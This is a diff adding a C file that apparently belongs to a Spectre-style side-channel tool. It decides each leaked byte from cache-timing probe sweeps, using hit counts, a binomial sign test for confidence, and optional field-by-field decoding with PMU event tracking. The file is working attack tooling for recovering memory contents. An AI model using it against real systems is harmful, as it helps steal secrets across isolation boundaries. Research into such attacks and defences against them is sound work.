@@ -0,0 +1,142 @@
+#include <math.h>
+#include "spectre_decision.h"
+
+/*
+ * sign_test_p_value
+ * P(X >= leader) for X ~ Binomial(leader + runner_up, 1/2): the chance that
+ * the leader got this far ahead if both candidates were equally likely to hit.
+ * Summed in log space: 2^-n alone underflows a double once n passes 1074.
+*/
+static double sign_test_p_value(uint32_t leader, uint32_t runner_up)
+{
+    uint32_t n = leader + runner_up;
+    double tail = 0.0;
+    if (n == 0) return 1.0;
+    // log pmf(leader), then walk up with pmf(k + 1) = pmf(k) * (n - k) / (k + 1)
+    double log_pmf = lgamma(n + 1.0) - lgamma(leader + 1.0) - lgamma(runner_up + 1.0) - n * M_LN2;
+    for (uint32_t k = leader; k <= n; k++) {
+        double term = exp(log_pmf);
+        tail += term;
+        // the terms only shrink from here (leader >= n / 2)
+        if (term < tail * 1e-17) break;
+        log_pmf += log((double)(n - k)) - log(k + 1.0);
+    }
+    return tail > 1.0 ? 1.0 : tail;
+}
+
+// true if candidate a has stronger evidence than b (more hits, then lower mean latency)
+static bool stronger(const DecisionAccumulator* acc, size_t a, size_t b)
+{
+    if (acc->hits[a] != acc->hits[b]) return acc->hits[a] > acc->hits[b];
+    if (acc->hits[a] == 0) return false;
+    // compare mean latencies without dividing
+    return acc->hit_latency[a] * acc->hits[b] < acc->hit_latency[b] * acc->hits[a];
+}
+
+DecisionConfig default_decision_config(uint64_t threshold)
+{
+    return (DecisionConfig) {
+        .threshold = threshold,
+        .confidence = 0.99,
+        .min_hits = 2,
+        .max_sweeps = 2000,
+    };
+}
+
+void decision_reset(DecisionAccumulator* acc, size_t num_lines)
+{
+    memset(acc, 0, sizeof(*acc));
+    acc->num_lines = num_lines;
+}
+
+void decision_add_sweep(DecisionAccumulator* acc, const DecisionConfig* config, const uint64_t timings[PROBE_NUM_LINES])
+{
+    acc->sweeps++;
+    for (size_t i = 0; i < acc->num_lines; i++) {
+        if (timings[i] <= config->threshold) {
+            acc->hits[i]++;
+            acc->hit_latency[i] += timings[i];
+        }
+    }
+}
+
+DecisionResult decision_evaluate(const DecisionAccumulator* acc, const DecisionConfig* config)
+{
+    size_t leader = 0, runner_up = 1;
+    if (stronger(acc, runner_up, leader)) {
+        leader = 1;
+        runner_up = 0;
+    }
+    for (size_t i = 2; i < acc->num_lines; i++) {
+        if (stronger(acc, i, leader)) {
+            runner_up = leader;
+            leader = i;
+        } else if (stronger(acc, i, runner_up)) {
+            runner_up = i;
+        }
+    }
+
+    DecisionResult result = {
+        .value = (uint8_t)leader,
+        .confidence = 0.0,
+        .sweeps = acc->sweeps,
+        .decided = false,
+    };
+    if (acc->hits[leader] == 0) return result;
+
+    result.confidence = 1.0 - sign_test_p_value(acc->hits[leader], acc->hits[runner_up]);
+    result.decided = acc->hits[leader] >= config->min_hits && result.confidence >= config->confidence;
+    return result;
+}
+
+/*
+ * decide_field
+ * sweeps the field of offset selected by probe->field_shift (or the whole byte)
+ * until one candidate clearly wins or max_sweeps is reached. PMU events are added to events.
+*/
+static DecisionResult decide_field(const ProbeConfig* probe, const DecisionConfig* config, size_t offset, PmuSample* events)
+{
+    DecisionAccumulator acc;
+    DecisionResult result;
+    PmuSample before, after;
+    uint64_t timings[PROBE_NUM_LINES];
+
+    decision_reset(&acc, probe_num_lines(probe));
+    do {
+        pmu_read(&before);
+        probe_sweep(probe, offset, timings);
+        pmu_read(&after);
+        pmu_accumulate(events, &before, &after);
+
+        decision_add_sweep(&acc, config, timings);
+        result = decision_evaluate(&acc, config);
+    } while (!result.decided && acc.sweeps < config->max_sweeps);
+
+    return result;
+}
+
+DecisionResult decide_byte(const ProbeConfig* probe, const DecisionConfig* config, size_t offset)
+{
+    PmuSample events = {};
+    DecisionResult result;
+
+    if (probe->field_bits == 0) {
+        result = decide_field(probe, config, offset, &events);
+        result.events = events;
+        return result;
+    }
+
+    // Lowest field first, each with its own evidence
+    ProbeConfig field = *probe;
+    result = (DecisionResult) { .value = 0, .confidence = 1.0, .sweeps = 0, .decided = true };
+    for (field.field_shift = 0; field.field_shift < 8; field.field_shift += field.field_bits) {
+        DecisionResult part = decide_field(&field, config, offset, &events);
+        result.value |= part.value << field.field_shift;
+        // A byte is only as trustworthy as its weakest field
+        if (part.confidence < result.confidence) result.confidence = part.confidence;
+        result.sweeps += part.sweeps;
+        result.decided = result.decided && part.decided;
+    }
+    result.events = events;
+    return result;
+}